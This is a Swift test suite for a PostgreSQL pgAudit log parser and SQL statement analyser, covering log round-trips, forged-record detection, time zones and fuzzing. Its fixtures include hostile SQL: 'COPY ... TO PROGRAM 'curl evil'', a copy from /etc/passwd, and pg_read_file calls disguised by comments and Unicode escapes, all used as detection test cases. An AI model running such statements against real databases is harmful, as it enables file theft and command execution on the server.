import Foundation
import GuardianService
import Testing

/// Lines as PostgreSQL 15 with pgAudit 1.7 writes them.
enum Lines {
    static func audit(
        _ statement: String, kind: String = "DDL", command: String = "CREATE TABLE", type: String = "", object: String = "",
        role: String = "postgres",
        host: String = "127.0.0.1", application: String = "psql", database: String = "everline", source: String = "SESSION",
        id: Int = 1,
        number: Int = 3, session: String = "6b0615d0.4f1f", time: String = "2026-11-24 22:55:12.958 UTC"
    ) -> String {
        func field(_ text: String) -> String {
            text.contains { ",\"\n\r".contains($0) } ? "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : text
        }
        return line(
            "AUDIT: \(source),\(id),1,\(kind),\(command),\(type),\(field(object)),\(field(statement)),<not logged>", role: role,
            host: host,
            application: application, database: database, number: number, session: session, time: time)
    }

    static func line(
        _ message: String, severity: String = "LOG", state: String? = nil, statement: String? = nil, role: String = "postgres",
        host: String = "127.0.0.1",
        application: String? = nil, database: String = "everline", backend: String = "client backend", number: Int = 3,
        session: String = "6b0615d0.4f1f",
        time: String = "2026-11-24 22:55:12.958 UTC", more: String = ""
    ) -> String {
        func member(_ name: String, _ text: String?) -> String { text.map { "\"\(name)\":\(json($0))," } ?? "" }
        return
            "{\"timestamp\":\"\(time)\",\(member("user", role))\(member("dbname", database))\"pid\":20255,\(member("remote_host", host))"
            + "\"session_id\":\"\(session)\",\"line_num\":\(number),\"ps\":\"x\",\"session_start\":\"2026-11-24 22:55:12 UTC\",\"vxid\":\"3/4\",\"txid\":726,"
            + "\"error_severity\":\"\(severity)\",\(member("state_code", state))\"message\":\(json(message)),\(more)\(member("statement", statement))"
            + "\(member("application_name", application))\"backend_type\":\"\(backend)\",\"query_id\":0}"
    }

    /// As escape_json of PostgreSQL does it.
    private static func json(_ text: String) -> String {
        var out = "\""
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\n": out += "\\n"
            case "\t": out += "\\t"
            case "\r": out += "\\r"
            case "\"": out += "\\\""
            case "\\": out += "\\\\"
            case "\u{0}"..<" ": out += String(format: "\\u%04x", scalar.value)
            default: out.unicodeScalars.append(scalar)
            }
        }
        return out + "\""
    }
}

extension LogParser {
    mutating func parse(_ line: String) -> LogParser.Outcome { parse(Array(line.utf8)) }
    mutating func parse(_ bytes: [UInt8]) -> LogParser.Outcome {
        bytes.withUnsafeBufferPointer { parse($0, at: LogPlace(file: "everline.json", line: 7)).outcome }
    }
    mutating func record(_ line: String) -> LogRecord? {
        if case .record(let record) = parse(line) { record } else { nil }
    }
}

@Suite("Records of the server's log")
struct RecordTests {
    @Test(
        "an audited statement comes out as it went in",
        arguments: [
            "create table t(a int, secret text);", "select 2, 'a,\"b\"\nc';", "床前明月光，疑是地上霜", "\\ \"\" ,,, \u{1}\t", "", "\"",
            "a\r\nb", "x'\"'",
            "create role bob login password <REDACTED>",
        ])
    func roundTrip(statement: String) throws {
        var parser = LogParser(zone: "UTC")
        let found = parser.record(Lines.audit(statement, type: "TABLE", object: "public.t,\"x\"", id: 42))
        let record = try #require(found)
        let audit = try #require(record.audit)
        #expect(audit.statement == statement)
        #expect(audit.object == "public.t,\"x\"")
        #expect(audit.statementID == 42 && audit.substatementID == 1 && audit.kind == "DDL" && audit.command == "CREATE TABLE")
        #expect(audit.parameter == "<not logged>" && audit.rows == nil)
        #expect(audit.isRedacted == statement.hasSuffix("<REDACTED>"))
        #expect(
            record.role == "postgres" && record.database == "everline" && record.host == "127.0.0.1"
                && record.application == "psql")
        #expect(record.session == SessionID(start: 0x6b06_15d0, process: 0x4f1f))
        #expect(record.milliseconds == 1_795_560_912_958)
        #expect(record.evidence == "everline.json:7")
    }

    @Test("substatements and rows are read, also from a line that was cut")
    func parts() throws {
        var parser = LogParser(zone: "UTC")
        let whole = Lines.line("AUDIT: OBJECT,9,3,WRITE,DELETE,TABLE,everline.messages,delete from messages,<none>,17")
        let found = parser.record(whole)
        let audit = try #require(found?.audit)
        #expect(audit.source == .object && audit.substatementID == 3 && audit.rows == 17 && audit.parameter == "<none>")
        let end = try #require(whole.range(of: ",<none>"))
        let cut = parser.record(String(whole[..<end.lowerBound]))
        let rest = try #require(cut?.audit)
        #expect(rest.object == "everline.messages" && rest.statement == "delete from messages")
    }

    @Test("whoever writes a record by RAISE is told of, and not believed")
    func forged() {
        var parser = LogParser(zone: "UTC")
        let line = Lines.line(
            "AUDIT: SESSION,1,1,ROLE,CREATE ROLE,,,create role bob,<not logged>",
            more: "\"context\":\"PL/pgSQL function inline_code_block line 1 at RAISE\",")
        guard case .forged = parser.parse(line) else {
            Issue.record("it was believed")
            return
        }
    }

    @Test(
        "the zone of the server's log counts, with its summer time",
        arguments: [
            ("Asia/Taipei", "2026-11-25 06:55:12.958 CST"), ("America/New_York", "2026-11-24 17:55:12.958 EST"),
            ("UTC", "2026-11-24 22:55:12.958 UTC"),
        ])
    func zones(zone: String, time: String) {
        var parser = LogParser(zone: zone)
        let record = parser.record(Lines.audit("x", time: time))
        #expect(record?.milliseconds == 1_795_560_912_958)
        if zone == "America/New_York" {
            let summer = parser.record(Lines.audit("x", time: "2026-07-01 08:00:00.000 EDT"))
            #expect(summer?.milliseconds == 1_782_907_200_000)
        }
    }

    @Test("the half line of a server that died does not hide the line behind it")
    func glued() {
        var parser = LogParser(zone: "UTC")
        let whole = Lines.audit("drop table t", command: "DROP TABLE")
        let glued = String(whole.prefix(150)) + whole
        let record = parser.record(glued)
        #expect(record?.audit?.command == "DROP TABLE")
    }

    @Test("bad encodings and controls crash nothing and lose nothing else")
    func encodings() throws {
        var parser = LogParser(zone: "UTC")
        var bytes = Array(Lines.audit("drop table @", command: "DROP TABLE").utf8)
        let at = try #require(bytes.firstIndex(of: UInt8(ascii: "@")))
        bytes.replaceSubrange(at...at, with: [0xFF, 0xC3, 0x28, 0xED, 0xA0, 0x80])
        guard case .record(let record) = parser.parse(bytes) else {
            Issue.record("it was lost")
            return
        }
        #expect(record.audit?.command == "DROP TABLE")
        #expect(record.audit?.statement.hasPrefix("drop table ") == true)
    }

    @Test("mutated lines end in some way, and lines beside them are read as ever")
    func fuzz() {
        let rounds = ProcessInfo.processInfo.environment["EVERLINE_FUZZ"].flatMap { Int($0) } ?? 1_000_000
        var generator = SplitMix(state: 20_261_124)
        let seeds = [
            Lines.audit("select 2, 'a,\"b\"\nc';", kind: "READ", command: "SELECT"),
            Lines.audit("drop table 床", command: "DROP TABLE"),
            Lines.line(
                "connection authorized: user=postgres database=postgres application_name=psql SSL enabled (protocol=TLSv1.3)"),
            Lines.line("relation \"x\" does not exist", severity: "ERROR", state: "42P01", statement: "select * from x"),
        ].map { Array($0.utf8) }
        var parser = LogParser(zone: "UTC")
        let sound = Lines.audit("create table t(a int)")
        for round in 0..<rounds {
            var bytes = seeds[round % seeds.count]
            for _ in 0...Int(generator.next() % 4) {
                guard !bytes.isEmpty else { break }
                let at = Int(generator.next() % UInt64(bytes.count))
                switch generator.next() % 5 {
                case 0: bytes[at] = UInt8(truncatingIfNeeded: generator.next())
                case 1: bytes.remove(at: at)
                case 2: bytes.insert(UInt8(truncatingIfNeeded: generator.next()), at: at)
                case 3: bytes.removeSubrange(at...)
                default: bytes.insert(contentsOf: bytes[at...].prefix(40), at: at)
                }
            }
            if case .record(let record) = parser.parse(bytes) {
                _ = Statement(record.sql).shown
            }
            if round % 1_000 == 0 {
                let record = parser.record(sound)
                #expect(record?.audit?.statement == "create table t(a int)")
            }
        }
    }

    struct SplitMix: RandomNumberGenerator {
        var state: UInt64
        mutating func next() -> UInt64 {
            state &+= 0x9e37_79b9_7f4a_7c15
            var z = state
            z = (z ^ (z >> 30)) &* 0xbf58_476d_1ce4_e5b9
            z = (z ^ (z >> 27)) &* 0x94d0_49bb_1331_11eb
            return z ^ (z >> 31)
        }
    }
}

@Suite("Statements")
struct StatementTests {
    @Test(
        "no spelling hides a word",
        arguments: [
            "SELECT Pg_Read_File('/x')", "select \"pg_read_file\"('/x')", "select/*a /*b*/ c*/pg_read_file/**/('/x')",
            "select -- x\npg_read_file('/x')",
            "select U&\"pg\\005fread\\005ffile\"('/x')", "select pg_catalog.pg_read_file('/x')",
            "select u&\"pg_read\\+00005Ffile\"('/x')",
        ])
    func words(sql: String) {
        #expect(Statement(sql).has("pg_read_file"))
    }

    @Test(
        "no literal looks like a word",
        arguments: [
            "select 'pg_read_file'", "select $$ pg_read_file $$", "select $a$ $b$ pg_read_file $b$ $a$",
            "select E'\\' pg_read_file'", "select '''pg_read_file'",
        ])
    func literals(sql: String) { #expect(!Statement(sql).has("pg_read_file")) }

    @Test("what is shown has no data in it, and the places of COPY")
    func shown() {
        #expect(Statement("insert into t values (1, '床前明月光', E'a\\'b')").shown == "insert into t values(?, '…', '…')")
        #expect(Statement("COPY t TO PROGRAM 'curl evil'").shown == "copy t to program 'curl evil'")
        #expect(Statement("copy t from '/etc/passwd'").shown == "copy t from '/etc/passwd'")
        #expect(Statement("select * from t where a = 'x' and b like 'y'").shown == "select * from t where a = '…' and b like '…'")
    }
}
